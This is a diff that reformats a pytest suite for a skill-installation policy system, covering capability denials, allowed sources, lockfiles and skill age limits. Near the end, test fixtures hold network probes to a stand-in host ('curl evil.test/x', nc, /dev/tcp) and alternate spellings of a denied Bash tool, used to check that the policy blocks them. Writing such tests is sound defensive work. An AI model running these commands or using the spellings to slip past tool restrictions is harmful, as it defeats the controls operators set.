@@ -220,11 +220,7 @@ def test_no_yes_of_a_person_lifts_a_policy(world):
 def test_one_of_all_that_is_forbidden_is_left_out(world):
     place = repository(
         world,
-        **{
-            "pdf/SKILL.md": text_of("pdf"),
-            "pdf/scripts/run.sh*": "#!/bin/sh\n",
-            "mail/SKILL.md": text_of("mail"),
-        },
+        **{"pdf/SKILL.md": text_of("pdf"), "pdf/scripts/run.sh*": "#!/bin/sh\n", "mail/SKILL.md": text_of("mail")},
     )
     path = project(world, 'deny-capabilities = ["scripts"]')
     outcome = world.install(place, every=True)
@@ -242,9 +238,7 @@ def test_a_lock_is_no_way_around(world, frozen):
     other = world.on_another_machine()
     path = user(other, f"sources = [{ROOT}]")
     error = forbidden(other, f"{path}:1", lambda: other.install(frozen=frozen))
-    assert error.message.startswith(
-        "'https://git.example/skills' is no place that a skill may come from; the user's"
-    )
+    assert error.message.startswith("'https://git.example/skills' is no place that a skill may come from; the user's")
     assert not other.project.records().skills
 
 
@@ -300,10 +294,7 @@ def test_update_and_enable_are_held_to_it(world, tmp_path):
     path = project_keeping(world, 'deny-capabilities = ["scripts"]')
     forbidden(world, path, lambda: world.update("hello"))
     outcome = world.update()
-    assert ([(each.name, each.code) for each in outcome.left], outcome.changed) == (
-        [("hello", "policy")],
-        False,
-    )
+    assert ([(each.name, each.code) for each in outcome.left], outcome.changed) == ([("hello", "policy")], False)
     world.disable("hello")
     machine(world, "sources = []")
     forbidden(world, f"{world.folder}/machine/policy.toml:1", lambda: world.enable("hello"))
@@ -385,9 +376,7 @@ class Clock(World):
         return replace(super().ports(answers), clock=lambda: NOW + self.gone)
 
 
-@pytest.mark.parametrize(
-    "date", [None, "yesterday", f"{datetime(2027, 1, 1, tzinfo=UTC):%Y-%m-%dT%H:%M:%SZ}"]
-)
+@pytest.mark.parametrize("date", [None, "yesterday", f"{datetime(2027, 1, 1, tzinfo=UTC):%Y-%m-%dT%H:%M:%SZ}"])
 def test_an_age_that_nobody_knows_or_that_is_to_come_is_refused(world, date):
     user(world, "min-age-days = 3")
     with pytest.raises(Forbidden):
@@ -543,8 +532,7 @@ def test_a_name_that_is_not_there_is_not_taken_for_forbidden(world):
 
 @pytest.mark.parametrize("level", LEVELS)
 @pytest.mark.parametrize(
-    "tools",
-    ["Bash", "bash", "'*'", "Bash (curl:*)", "Bash( * )", "[Read, Bash]", "'\"Bash\", Read'", "shell", "B*"],
+    "tools", ["Bash", "bash", "'*'", "Bash (curl:*)", "Bash( * )", "[Read, Bash]", "'\"Bash\", Read'", "shell", "B*"]
 )
 @pytest.mark.parametrize("key", ["allowed-tools", "allowedTools", "tools"])
 def test_attack_a_denied_tool_is_let_in_under_another_spelling(world, level, tools, key):
@@ -565,9 +553,7 @@ def test_attack_a_pattern_that_is_no_tool_forbids_nothing(world, level):
 
 
 @pytest.mark.parametrize("denied", ["network", "network:*", "network:evil.test"])
-@pytest.mark.parametrize(
-    "script", ["curl evil.test/x", "nc -z evil.test 80", "exec 3<>/dev/tcp/evil.test/80"]
-)
+@pytest.mark.parametrize("script", ["curl evil.test/x", "nc -z evil.test 80", "exec 3<>/dev/tcp/evil.test/80"])
 def test_attack_a_skill_that_names_no_host_passes_a_policy_that_denies_the_network(world, denied, script):
     skill(world.base / "src", scripts__run_sh=f"#!/bin/sh\n{script}\n")
     path = user(world, f'deny-capabilities = ["{denied}"]')
